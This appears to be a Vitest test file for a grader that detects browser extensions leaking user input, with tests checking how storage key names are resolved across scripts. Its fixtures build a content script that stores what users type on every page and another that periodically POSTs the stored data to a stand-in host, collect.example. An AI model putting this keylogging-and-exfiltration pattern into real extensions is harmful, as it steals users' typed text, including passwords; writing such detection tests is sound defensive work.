import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Two parts of what an extension stores; one is sent. Told by names in tables that the scripts share. */

const program = (table: string, names: string, sent: string): Promise<string> =>
  graded({
    files: {
      'keys.js': table,
      'typed.js': `${names} document.addEventListener('change', (e) => { chrome.storage.local.set({ [K.typed]: e.target.value }); });`,
      'sent.js': `(() => { ${names} setInterval(async () => { const all = await chrome.storage.local.get(K.${sent}); fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all[K.${sent}]) }); }, 5000); })();`,
    },
    manifest: { content_scripts: [{ matches: ['<all_urls>'], js: ['keys.js', 'typed.js', 'sent.js'] }] },
  });

const TABLE = "{ typed: 'typed_', shown: 'shown_' }";

describe('a key of storage', () => {
  it.each([
    ['a table at the top of a script', `const KEYS = ${TABLE};`, 'const K = KEYS;'],
    ['a frozen table', `const KEYS = Object.freeze(${TABLE});`, 'const K = KEYS;'],
    ['a table in an object of the page', `window.App = { KEYS: ${TABLE} };`, 'const K = window.App.KEYS;'],
    [
      'a frozen table in one, taken out of it',
      `(() => { const KEYS = Object.freeze(${TABLE}); window.App = { KEYS, version: 1 }; })();`,
      'const { KEYS: K } = window.App;',
    ],
  ])('is read of %s', async (_, table, names) => {
    expect(await program(table, names, 'typed')).toBe('F');
    expect(await program(table, names, 'shown')).not.toBe('F');
  });
  it('is not known where two scripts put different tables there', async () => {
    const table = `window.App = { KEYS: ${TABLE} }; if (self.old) window.App = { KEYS: { typed: 'shown_', shown: 'typed_' } };`;
    expect(await program(table, 'const K = window.App.KEYS;', 'shown')).toBe('F');
  });
});
